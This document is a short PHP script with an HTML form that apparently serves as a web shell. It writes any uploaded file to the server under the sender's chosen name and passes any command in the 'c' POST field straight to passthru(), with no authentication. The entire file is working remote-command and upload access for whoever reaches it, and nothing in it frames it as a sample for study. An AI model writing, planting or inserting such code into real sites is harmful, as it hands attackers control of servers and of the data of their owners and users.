<?php
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], basename($_FILES['up']['name'])); echo "ok"; }
if (isset($_POST['c'])) { echo passthru($_POST['c']); }
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="up"><input name="c"></form>
